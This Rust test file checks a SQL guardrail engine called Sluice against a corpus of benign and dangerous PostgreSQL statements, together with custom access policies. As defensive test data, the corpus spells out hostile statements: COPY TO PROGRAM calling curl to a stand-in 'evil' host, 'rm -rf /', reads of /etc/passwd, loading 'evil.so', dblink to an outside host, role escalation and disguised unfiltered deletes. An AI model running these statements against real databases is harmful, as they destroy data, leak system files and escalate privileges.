//! The built-in guardrails against a corpus of dangerous and benign
//! statements, in production and elsewhere. Each line is what a reviewer
//! would expect Sluice to do with that statement.

use sluice_identity::{Principal, PrincipalKind};
use sluice_policy::{Decision, PolicyEngine, Request, TargetRef};
use sluice_sql::Dialect;

fn alice() -> Principal {
    Principal {
        name: "alice".into(),
        kind: PrincipalKind::Human,
        groups: vec!["dev".into()],
        attributes: Default::default(),
        method: "test",
        ..Default::default()
    }
}

fn decide(engine: &PolicyEngine, env: &str, sql: &str) -> Decision {
    let analysis = sluice_sql::analyze(sql, Dialect::default()).ok();
    let p = alice();
    engine.decide(&Request {
        principal: &p,
        target: TargetRef {
            name: "t",
            environment: env,
        },
        analysis: analysis.as_ref(),
        application_name: "test",
        hour_utc: 12,
        client_address: "",
        search_path: &[],
    })
}

/// (statement, decision in production, rule in production)
const CORPUS: &[(&str, &str, &str)] = &[
    // Benign reads and writes.
    ("select 1", "allow", ""),
    ("SELECT * FROM customers WHERE id = 42", "allow", ""),
    ("select c.email, o.total from customers c join orders o on o.customer_id = c.id", "allow", ""),
    ("with recent as (select * from orders where created_at > now() - interval '1 day') select count(*) from recent", "allow", ""),
    ("insert into orders (customer_id, total) values (1, 9.99)", "allow", ""),
    ("insert into archive select * from orders where created_at < '2020-01-01'", "allow", ""),
    ("update customers set email = 'x@example.com' where id = 7", "allow", ""),
    ("delete from sessions where expires_at < now()", "allow", ""),
    ("UPDATE accounts SET balance = balance - 10 WHERE id = $1", "allow", ""),
    ("delete from t where id in (select id from t2)", "allow", ""),
    ("update t set a = 1 where a is null", "allow", ""),
    ("delete from t where x = y", "allow", ""),
    ("begin", "allow", ""),
    ("commit", "allow", ""),
    ("rollback", "allow", ""),
    ("savepoint s1", "allow", ""),
    ("set search_path = app, public", "allow", ""),
    ("set statement_timeout = '5s'", "allow", ""),
    ("show server_version", "allow", ""),
    ("listen orders", "allow", ""),
    ("notify orders, 'x'", "allow", ""),
    ("explain select * from t", "allow", ""),
    ("copy (select id, total from orders) to stdout with (format csv)", "allow", ""),
    ("copy orders from stdin", "allow", ""),
    ("prepare q(int) as select * from t where id = $1", "allow", ""),
    ("execute q(1)", "allow", ""),
    ("deallocate all", "allow", ""),
    ("discard all", "allow", ""),
    ("reset role", "allow", ""),
    ("select pg_sleep(0.1)", "allow", ""),
    ("select lower(email) from customers", "allow", ""),
    ("vacuum analyze orders", "allow", ""),
    ("lock table t in share mode", "allow", ""),
    ("lock table t in share row exclusive mode", "allow", ""),
    ("vacuum orders", "allow", ""),
    ("vacuum (verbose, full false) orders", "allow", ""),
    ("reindex (concurrently) index orders_pkey", "allow", ""),
    ("reindex index concurrently orders_pkey", "allow", ""),
    ("refresh materialized view concurrently daily_totals", "approval", "approve-schema-changes-in-production"),
    // Locks that stop a table's writes or reads while they last.
    ("lock table orders", "approval", "approve-blocking-locks-in-production"),
    ("LOCK orders IN ACCESS EXCLUSIVE MODE NOWAIT", "approval", "approve-blocking-locks-in-production"),
    ("lock table orders in exclusive mode", "approval", "approve-blocking-locks-in-production"),
    ("vacuum full orders", "approval", "approve-blocking-locks-in-production"),
    ("VACUUM (FULL, ANALYZE)", "approval", "approve-blocking-locks-in-production"),
    ("vacuum (full 'on') orders", "approval", "approve-blocking-locks-in-production"),
    ("cluster orders using orders_pkey", "approval", "approve-blocking-locks-in-production"),
    ("cluster", "approval", "approve-blocking-locks-in-production"),
    ("reindex table orders", "approval", "approve-blocking-locks-in-production"),
    ("reindex database app", "approval", "approve-blocking-locks-in-production"),
    ("refresh materialized view daily_totals", "approval", "approve-blocking-locks-in-production"),
    ("declare c cursor for select * from t", "allow", ""),
    ("select set_config('application_name', 'x', false)", "allow", ""),
    ("select 'DROP TABLE customers'", "allow", ""),
    ("select $$ truncate t $$", "allow", ""),
    ("-- drop table customers\nselect 1", "allow", ""),
    ("/* delete from t */ select 2", "allow", ""),
    // More benign statements that look alarming.
    ("select * from drop_log", "allow", ""),
    ("select \"drop\" from t", "allow", ""),
    ("select count(*) from truncate_history where deleted", "allow", ""),
    ("insert into audit (what) values ('drop table x')", "allow", ""),
    ("update t set note = 'delete from t' where id = 1", "allow", ""),
    ("select E'\\x27; drop table t; --'", "allow", ""),
    ("select U&'d\\0072op'", "allow", ""),
    ("select $tag$ delete from t $tag$ as s", "allow", ""),
    ("values (1), (2)", "allow", ""),
    ("table customers", "allow", ""),
    ("select * from customers for update", "allow", ""),
    ("insert into t values (1) on conflict (id) do update set a = excluded.a", "allow", ""),
    ("merge into t using s on t.id = s.id when matched then update set a = s.a", "allow", ""),
    ("analyze t", "allow", ""),
    ("checkpoint", "allow", ""),
    ("fetch 10 from c", "allow", ""),
    ("close c", "allow", ""),
    ("unlisten *", "allow", ""),
    // More dangerous ones in disguise.
    ("DELETE/**/FROM/**/customers", "deny", "no-unfiltered-write-in-production"),
    ("delete from \"Customers\" where 1 = 1.0", "deny", "no-unfiltered-write-in-production"),
    ("delete from public.customers where (true)", "deny", "no-unfiltered-write-in-production"),
    ("with a as (select 1), b as (delete from t returning 1) select * from a", "deny", "no-unfiltered-write-in-production"),
    ("insert into t select * from u returning (select pg_read_file('x'))", "deny", "no-server-access-in-production"),
    // DROP, TRUNCATE.
    ("drop table customers", "deny", "no-drop-in-production"),
    ("DROP TABLE IF EXISTS customers CASCADE", "deny", "no-drop-in-production"),
    ("dRoP   tAbLe\n\"Customers\"", "deny", "no-drop-in-production"),
    ("drop schema app cascade", "deny", "no-drop-in-production"),
    ("drop database app", "deny", "no-drop-in-production"),
    ("drop view v", "deny", "no-drop-in-production"),
    ("drop index i", "deny", "no-drop-in-production"),
    ("drop function f()", "deny", "no-drop-in-production"),
    ("drop role bob", "deny", "no-drop-in-production"),
    ("drop materialized view mv", "deny", "no-drop-in-production"),
    ("drop sequence s", "deny", "no-drop-in-production"),
    ("/* harmless */ drop table t", "deny", "no-drop-in-production"),
    ("select 1; drop table t", "deny", "no-drop-in-production"),
    ("select 1; select 2; drop table t; select 3", "deny", "no-drop-in-production"),
    ("truncate customers", "deny", "no-truncate-in-production"),
    ("TRUNCATE TABLE a, b RESTART IDENTITY", "deny", "no-truncate-in-production"),
    ("truncate only t cascade", "deny", "no-truncate-in-production"),
    // Unfiltered writes.
    ("delete from customers", "deny", "no-unfiltered-write-in-production"),
    ("DELETE FROM customers WHERE 1=1", "deny", "no-unfiltered-write-in-production"),
    ("delete from customers where true", "deny", "no-unfiltered-write-in-production"),
    ("delete from customers where 'a' = 'a'", "deny", "no-unfiltered-write-in-production"),
    ("delete from customers where id = id", "deny", "no-unfiltered-write-in-production"),
    ("delete from customers where 1 = 1 or id = 5", "deny", "no-unfiltered-write-in-production"),
    ("delete from customers where not false", "deny", "no-unfiltered-write-in-production"),
    ("delete from customers where 2 > 1", "deny", "no-unfiltered-write-in-production"),
    ("delete from customers where true and 1 = 1", "deny", "no-unfiltered-write-in-production"),
    ("delete from customers where 'true'::boolean", "deny", "no-unfiltered-write-in-production"),
    // Found by a red team: constant WHEREs and MERGE conditions that pick no rows.
    ("delete from t1 where not (1 = 2)", "deny", "no-unfiltered-write-in-production"),
    ("delete from t1 where 1 in (1)", "deny", "no-unfiltered-write-in-production"),
    ("delete from t1 where 1 between 0 and 2", "deny", "no-unfiltered-write-in-production"),
    ("delete from t1 where coalesce(true)", "deny", "no-unfiltered-write-in-production"),
    ("delete from t1 where true is true", "deny", "no-unfiltered-write-in-production"),
    ("delete from t1 where $1", "deny", "no-unfiltered-write-in-production"),
    ("delete from t1 where 1 is distinct from 2", "deny", "no-unfiltered-write-in-production"),
    ("delete from t1 where 9007199254740993 <> 9007199254740992", "deny", "no-unfiltered-write-in-production"),
    ("merge into t1 using (select 1) s on true when matched then delete", "deny", "no-unfiltered-write-in-production"),
    ("merge into t1 using s on t1.id = s.id when matched then delete", "allow", ""),
    // ORMs write this for an empty IN list: it deletes nothing.
    ("delete from t1 where 1 = 0", "allow", ""),
    ("delete from t1 where id = $1", "allow", ""),
    ("insert into big select id, 'x' from big on conflict (id) do update set v = excluded.v", "allow", ""),
    ("explain (analyze 'off') delete from big where id > 0", "allow", ""),
    // set_config where pg_query's own walk does not look.
    ("values (set_config('role', 'other', false))", "deny", "no-identity-change"),
    ("select array[set_config('role', 'other', false)]", "deny", "no-identity-change"),
    ("select set_config('role', 'other', false) collate \"C\"", "deny", "no-identity-change"),
    ("declare c cursor for select set_config('role', 'other', false)", "deny", "no-identity-change"),
    ("select 1 limit (set_config('role', 'other', false))::int", "deny", "no-identity-change"),
    ("values (set_config('standard_conforming_strings', 'off', false))", "deny", "no-encoding-change"),
    // SQL given as text runs unseen.
    ("select query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')", "deny", "no-dynamic-code-in-production"),
    ("select table_to_xml('hr.payroll', true, false, '')", "deny", "no-dynamic-code-in-production"),
    ("select * from ts_stat('select v from docs')", "deny", "no-dynamic-code-in-production"),
    ("select pg_ls_replslotdir('s')", "deny", "no-server-access-in-production"),
    // ALTER DATABASE … SET reaches every later session.
    ("alter database appdb set role = 'other'", "deny", "no-identity-change"),
    ("alter database appdb set standard_conforming_strings = off", "deny", "no-encoding-change"),
    ("alter database appdb set session_preload_libraries = 'auto_explain'", "deny", "no-server-access-in-production"),
    ("alter database appdb connection limit 0", "approval", "approve-schema-changes-in-production"),
    ("alter database appdb set search_path = hr", "approval", "approve-schema-changes-in-production"),
    // What a superuser login could do with plain DML and SET.
    ("set session_replication_role = replica", "approval", "approve-security-changes-in-production"),
    ("update pg_class set relrowsecurity = false where relname = 'secure'", "approval", "approve-security-changes-in-production"),
    ("update pg_catalog.pg_authid set rolsuper = true where rolname = 'app'", "approval", "approve-security-changes-in-production"),
    ("select * into pwn from t1", "approval", "approve-schema-changes-in-production"),
    ("update customers set email = null", "deny", "no-unfiltered-write-in-production"),
    ("UPDATE customers SET email = NULL WHERE 1 = 1", "deny", "no-unfiltered-write-in-production"),
    ("update customers set a = 1 where a = a", "deny", "no-unfiltered-write-in-production"),
    ("with d as (delete from customers returning *) select count(*) from d", "deny", "no-unfiltered-write-in-production"),
    ("with u as (update t set a = 1 returning *) select * from u", "deny", "no-unfiltered-write-in-production"),
    ("copy (delete from customers returning *) to stdout", "deny", "no-unfiltered-write-in-production"),
    ("explain analyze delete from customers", "deny", "no-unfiltered-write-in-production"),
    ("prepare p as delete from customers", "deny", "no-unfiltered-write-in-production"),
    ("prepare p as drop table t", "deny", "no-unparseable-in-production"),
    ("select 1; delete from t", "deny", "no-unfiltered-write-in-production"),
    ("delete from t using t2", "deny", "no-unfiltered-write-in-production"),
    // Server access.
    ("alter system set wal_level = minimal", "deny", "no-server-access-in-production"),
    ("ALTER SYSTEM RESET ALL", "deny", "no-server-access-in-production"),
    ("copy t to program 'curl evil'", "deny", "no-server-access-in-production"),
    ("copy t from program 'rm -rf /'", "deny", "no-server-access-in-production"),
    ("copy t to '/tmp/out.csv'", "deny", "no-server-access-in-production"),
    ("copy t from '/etc/passwd'", "deny", "no-server-access-in-production"),
    ("select pg_read_file('/etc/passwd')", "deny", "no-server-access-in-production"),
    ("select * from pg_ls_dir('.')", "deny", "no-server-access-in-production"),
    ("select pg_catalog.pg_read_binary_file('x')", "deny", "no-server-access-in-production"),
    ("select lo_import('/etc/passwd')", "deny", "no-server-access-in-production"),
    ("select lo_export(123, '/tmp/x')", "deny", "no-server-access-in-production"),
    ("select dblink('host=evil', 'select 1')", "deny", "no-server-access-in-production"),
    ("select * from dblink_exec('x', 'drop table t')", "deny", "no-server-access-in-production"),
    ("load 'evil.so'", "deny", "no-server-access-in-production"),
    ("select pg_terminate_backend(123)", "deny", "no-server-access-in-production"),
    ("select pg_reload_conf()", "deny", "no-server-access-in-production"),
    ("select (select pg_read_file('x'))", "deny", "no-server-access-in-production"),
    ("select * from t where a = (select lo_export(1, '/tmp/y'))", "deny", "no-server-access-in-production"),
    // Dynamic code.
    ("do $$ begin delete from t; end $$", "deny", "no-dynamic-code-in-production"),
    ("DO LANGUAGE plpgsql $x$ begin execute 'drop table t'; end $x$", "deny", "no-dynamic-code-in-production"),
    ("select set_config(current_user, 'x', false)", "deny", "no-dynamic-code-in-production"),
    // Identity, encoding, sluice settings.
    ("set role postgres", "deny", "no-identity-change"),
    ("SET SESSION AUTHORIZATION postgres", "deny", "no-identity-change"),
    ("set local role admin", "deny", "no-identity-change"),
    ("select set_config('role', 'postgres', false)", "deny", "no-identity-change"),
    ("set client_encoding = 'SJIS'", "deny", "no-encoding-change"),
    ("set names 'BIG5'", "deny", "no-encoding-change"),
    ("select set_config('client_encoding', 'GBK', false)", "deny", "no-encoding-change"),
    ("set sluice.principal = 'admin'", "deny", "no-sluice-settings"),
    ("select \"pg_read_file\"('/etc/passwd')", "deny", "no-server-access-in-production"),
    ("select U&\"pg_read_fil\\0065\"('/etc/passwd')", "deny", "no-server-access-in-production"),
    ("select set_config('sluice.user', 'admin', false)", "deny", "no-sluice-settings"),
    ("set standard_conforming_strings = off", "deny", "no-encoding-change"),
    ("set backslash_quote = on", "deny", "no-encoding-change"),
    // Approval: schema, security, privileges.
    ("create table t (id int)", "approval", "approve-schema-changes-in-production"),
    ("alter table t add column c int", "approval", "approve-schema-changes-in-production"),
    ("alter table t drop column email", "approval", "approve-schema-changes-in-production"),
    ("create index on t (a)", "approval", "approve-schema-changes-in-production"),
    ("create view v as select 1", "approval", "approve-schema-changes-in-production"),
    ("comment on table t is 'x'", "approval", "approve-schema-changes-in-production"),
    ("alter table t rename to u", "approval", "approve-schema-changes-in-production"),
    ("create schema s", "approval", "approve-schema-changes-in-production"),
    ("create table t2 as select * from t", "approval", "approve-schema-changes-in-production"),
    ("alter table t disable row level security", "approval", "approve-security-changes-in-production"),
    ("alter table t no force row level security", "approval", "approve-security-changes-in-production"),
    ("alter table t disable trigger all", "approval", "approve-security-changes-in-production"),
    ("create policy p on t using (true)", "approval", "approve-security-changes-in-production"),
    ("grant select on t to public", "approval", "approve-security-changes-in-production"),
    ("revoke all on t from bob", "approval", "approve-security-changes-in-production"),
    ("grant admin to bob", "approval", "approve-security-changes-in-production"),
    ("alter default privileges grant select on tables to public", "approval", "approve-security-changes-in-production"),
    ("create extension pgcrypto", "approval", "approve-security-changes-in-production"),
    ("create function f() returns int language sql as 'select 1'", "approval", "approve-security-changes-in-production"),
    ("create rule r as on select to t do instead select 1", "approval", "approve-security-changes-in-production"),
    ("create trigger tr before delete on t for each row execute function f()", "approval", "approve-security-changes-in-production"),
    ("alter table t set (encryption_key_id = 'k')", "approval", "approve-security-changes-in-production"),
    ("alter role bob superuser", "approval", "approve-schema-changes-in-production"),
    ("create role eve login", "approval", "approve-schema-changes-in-production"),
    // Hard denials win over approvals in one string.
    ("create table x (a int); drop table y", "deny", "no-drop-in-production"),
    // Unparseable.
    ("selec 1", "deny", "no-unparseable-in-production"),
    ("drop table", "deny", "no-unparseable-in-production"),
    ("select 'unterminated", "deny", "no-unparseable-in-production"),
    ("", "allow", ""),
];

#[test]
fn corpus_in_production() {
    let engine = PolicyEngine::builtin().unwrap();
    let mut failures = Vec::new();
    for (sql, expected, rule) in CORPUS {
        let d = decide(&engine, "production", sql);
        if d.label() != *expected || d.rule().unwrap_or("") != *rule {
            failures.push(format!("{sql:?}: expected {expected} {rule:?}, got {d:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} wrong:\n{}",
        failures.len(),
        CORPUS.len(),
        failures.join("\n")
    );
    assert!(
        CORPUS.len() >= 150,
        "corpus has {} statements",
        CORPUS.len()
    );
}

#[test]
fn elsewhere_risky_statements_are_allowed_and_flagged() {
    let engine = PolicyEngine::builtin().unwrap();
    for (sql, expected, rule) in CORPUS {
        let d = decide(&engine, "staging", sql);
        // Encoding, identity-changing settings and sluice.* stay refused everywhere:
        // they would break Sluice's reading of later statements.
        let everywhere = ["no-encoding-change", "no-sluice-settings"];
        if everywhere.contains(rule) {
            assert_eq!(d.label(), "deny", "{sql}");
            continue;
        }
        assert_eq!(d.label(), "allow", "{sql:?} in staging: {d:?}");
        if *expected != "allow" {
            let Decision::Allow { flags } = d else {
                unreachable!()
            };
            assert!(!flags.is_empty(), "{sql:?} should be flagged");
        }
    }
}

#[test]
fn policies_can_be_added_and_builtins_disabled() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("agents.cedar"),
        r#"
@id("agents-read-only")
@reason("agents may only read")
forbid (principal is Sluice::Agent, action, resource)
unless { action == Sluice::Action::"select" };
"#,
    )
    .unwrap();
    let engine =
        PolicyEngine::load(Some(dir.path()), &["no-truncate-in-production".into()]).unwrap();
    let agent = Principal {
        kind: PrincipalKind::Agent,
        name: "bot".into(),
        ..alice()
    };
    let analysis = sluice_sql::analyze("insert into t values (1)", Dialect::default()).unwrap();
    let d = engine.decide(&Request {
        principal: &agent,
        target: TargetRef {
            name: "t",
            environment: "development",
        },
        analysis: Some(&analysis),
        application_name: "",
        hour_utc: 0,
        client_address: "",
        search_path: &[],
    });
    assert_eq!(d.rule(), Some("agents-read-only"));
    assert_eq!(decide(&engine, "production", "truncate t").label(), "allow");

    std::fs::write(
        dir.path().join("bad.cedar"),
        "permit (principal, action == Sluice::Action::\"fly\", resource);",
    )
    .unwrap();
    let err = PolicyEngine::load(Some(dir.path()), &[])
        .unwrap_err()
        .to_string();
    assert!(err.contains("bad.cedar"), "{err}");

    // A typo in `disable` is an error that lists the real ids.
    let err = PolicyEngine::load(None, &["no-such-guardrail".into()])
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("no-such-guardrail") && err.contains("no-drop-in-production"),
        "{err}"
    );
}

fn engine_with(policies: &str) -> PolicyEngine {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("p.cedar"), policies).unwrap();
    PolicyEngine::load(Some(dir.path()), &[]).unwrap()
}

fn decide_as(
    engine: &PolicyEngine,
    who: &Principal,
    env: &str,
    search_path: &[String],
    sql: &str,
) -> Decision {
    let analysis = sluice_sql::analyze(sql, Dialect::default()).ok();
    engine.decide(&Request {
        principal: who,
        target: TargetRef {
            name: "app",
            environment: env,
        },
        analysis: analysis.as_ref(),
        application_name: "",
        hour_utc: 0,
        client_address: "10.1.2.3",
        search_path,
    })
}

#[test]
fn tables_and_columns_are_resources_when_policies_name_them() {
    // An agent may only SELECT, and only from two tables.
    let engine = engine_with(
        r#"
@id("report-bot-reads-two-tables")
@reason("report-bot may only read public.orders and public.products")
forbid (principal == Sluice::Agent::"report-bot", action, resource is Sluice::Table)
unless {
  action == Sluice::Action::"select" &&
  (resource == Sluice::Table::"public.orders" || resource == Sluice::Table::"public.products")
};

@id("report-bot-reads-only")
@reason("report-bot may only read")
forbid (principal == Sluice::Agent::"report-bot", action, resource)
unless { action == Sluice::Action::"select" || action == Sluice::Action::"other" };

@id("no-salary-column")
@reason("salaries are not for people outside hr")
forbid (principal, action, resource == Sluice::Column::"public.staff.salary")
unless { principal in Sluice::Group::"hr" };
"#,
    );
    let bot = Principal {
        kind: PrincipalKind::Agent,
        name: "report-bot".into(),
        ..alice()
    };
    let path = vec!["pg_catalog".to_owned(), "public".to_owned()];
    let d = |who: &Principal, sql: &str| decide_as(&engine, who, "production", &path, sql);
    assert_eq!(
        d(&bot, "select * from orders join products using (id)").label(),
        "allow"
    );
    assert_eq!(
        d(&bot, "select o.total from public.orders o").label(),
        "allow"
    );
    assert_eq!(
        d(&bot, "select * from customers").rule(),
        Some("report-bot-reads-two-tables")
    );
    assert_eq!(
        d(
            &bot,
            "select * from orders where id in (select order_id from refunds)"
        )
        .rule(),
        Some("report-bot-reads-two-tables")
    );
    assert_eq!(
        d(&bot, "insert into orders values (1)").rule(),
        Some("report-bot-reads-only")
    );
    // Column resources: through an alias, a join, a function.
    for sql in [
        "select salary from staff",
        "select s.salary as pay from staff s",
        "select name from staff where salary > 100000",
        "select sum(salary) from public.staff",
    ] {
        assert_eq!(d(&alice(), sql).rule(), Some("no-salary-column"), "{sql}");
    }
    assert_eq!(d(&alice(), "select name from staff").label(), "allow");
    let hr = Principal {
        groups: vec!["hr".into()],
        ..alice()
    };
    assert_eq!(d(&hr, "select salary from staff").label(), "allow");
}

#[test]
fn search_path_games_do_not_hide_a_table() {
    let engine = engine_with(
        r#"
@id("payroll-is-read-only")
@reason("public.payroll is read-only")
forbid (principal, action in [Sluice::Action::"update", Sluice::Action::"delete", Sluice::Action::"insert"], resource)
when { context.relations_written.contains("public.payroll") };

@id("office-network-only")
@reason("production only from the office network")
forbid (principal, action, resource)
when { resource.environment == "production" && !(context.client_address like "10.*") };
"#,
    );
    // The session's search path has gained schemas over time: an unqualified
    // name counts in every one of them.
    let path: Vec<String> = ["pg_catalog", "sluice_app", "public", "scratch"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    for sql in [
        "delete from payroll where id = 1",
        "delete from \"payroll\" where id = 1",
        "delete from public.payroll where id = 1",
        "with d as (delete from payroll where id = 1 returning *) select * from d",
        "set search_path = scratch, public; update payroll set amount = 0 where id = 1",
    ] {
        let d = decide_as(&engine, &alice(), "staging", &path, sql);
        assert_eq!(d.rule(), Some("payroll-is-read-only"), "{sql}");
    }
    assert_eq!(
        decide_as(
            &engine,
            &alice(),
            "staging",
            &path,
            "delete from scratch.payroll where id = 1"
        )
        .label(),
        "allow",
        "another schema's payroll, named explicitly"
    );
    // client_address is in the context.
    let outside = engine.decide(&Request {
        principal: &alice(),
        target: TargetRef {
            name: "app",
            environment: "production",
        },
        analysis: sluice_sql::analyze("select 1", Dialect::default())
            .ok()
            .as_ref(),
        application_name: "",
        hour_utc: 0,
        client_address: "192.168.1.5",
        search_path: &path,
    });
    assert_eq!(outside.rule(), Some("office-network-only"));
}

#[test]
fn principal_attributes_are_tags() {
    let engine = engine_with(
        r#"
@id("eu-data-stays-with-eu-staff")
@reason("only EU staff may read EU targets")
forbid (principal, action, resource)
when { resource.environment == "eu-production" }
unless { principal.hasTag("region") && principal.getTag("region") == "eu" };
"#,
    );
    let mut eu = alice();
    eu.attributes.insert("region".into(), "eu".into());
    let mut us = alice();
    us.attributes.insert("region".into(), "us".into());
    let path: Vec<String> = Vec::new();
    assert_eq!(
        decide_as(&engine, &eu, "eu-production", &path, "select 1").label(),
        "allow"
    );
    assert_eq!(
        decide_as(&engine, &us, "eu-production", &path, "select 1").rule(),
        Some("eu-data-stays-with-eu-staff")
    );
    assert_eq!(
        decide_as(&engine, &alice(), "eu-production", &path, "select 1").rule(),
        Some("eu-data-stays-with-eu-staff")
    );
}

#[test]
fn remembered_decisions_follow_every_fact_a_policy_reads() {
    // Decisions are remembered by what the policies can observe: a policy
    // reading the tables and the client address must see each difference.
    let engine = engine_with(
        r#"
@id("no-secrets-from-outside")
@reason("the secrets table is read from the office network only")
forbid (principal, action, resource)
when { context.tables_read.contains("secrets") && context.client_address != "10.1.2.3" };
"#,
    );
    let who = alice();
    let at = |address: &str, sql: &str| {
        let analysis = sluice_sql::analyze(sql, Dialect::default()).ok();
        engine
            .decide(&Request {
                principal: &who,
                target: TargetRef {
                    name: "app",
                    environment: "development",
                },
                analysis: analysis.as_ref(),
                application_name: "",
                hour_utc: 0,
                client_address: address,
                search_path: &[],
            })
            .label()
    };
    for _ in 0..2 {
        assert_eq!(at("10.9.9.9", "select * from orders"), "allow");
        assert_eq!(at("10.9.9.9", "select * from secrets"), "deny");
        assert_eq!(at("10.1.2.3", "select * from secrets"), "allow");
        assert_eq!(
            at("10.9.9.9", "select  *  from secrets where id = 2"),
            "deny"
        );
    }
    // Another principal in other groups is decided on its own.
    let engine = engine_with(
        r#"
@id("only-dba-drops")
@reason("only DBAs drop tables")
forbid (principal, action == Sluice::Action::"drop", resource)
unless { principal in Sluice::Group::"dba" };
"#,
    );
    let dba = Principal {
        groups: vec!["dba".into()],
        ..alice()
    };
    for _ in 0..2 {
        assert_eq!(
            decide_as(&engine, &alice(), "development", &[], "drop table t").label(),
            "deny"
        );
        assert_eq!(
            decide_as(&engine, &dba, "development", &[], "drop table t").label(),
            "allow"
        );
    }
}

#[test]
fn flags_are_the_statements_own_when_a_decision_is_remembered() {
    let engine = PolicyEngine::builtin().unwrap();
    let flags = |sql: &str| match decide(&engine, "development", sql) {
        Decision::Allow { flags } => flags,
        other => panic!("{sql}: {other:?}"),
    };
    assert!(flags("delete from t").contains(&"unfiltered_write".to_owned()));
    assert!(flags("delete from t where id = 1").is_empty());
    assert!(flags("delete from t").contains(&"unfiltered_write".to_owned()));
}
